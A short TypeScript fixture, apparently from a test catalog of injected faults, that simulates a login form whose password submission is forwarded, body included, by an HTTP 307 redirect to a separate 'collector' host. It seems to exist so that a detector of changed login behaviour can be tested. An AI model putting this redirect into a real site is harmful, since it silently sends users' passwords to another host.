import type { FaultFile } from './catalog.ts';
import { collector, leadOn, withLoginAnswers } from './collector.ts';

export default {
  what: 'the login is passed on to another host, body and all, by the status 307',
  handlers: withLoginAnswers((form) => (form.has('password') ? leadOn(307, `${collector}/login`) : null)),
  drift: { class: 'login-changed' },
} satisfies FaultFile;
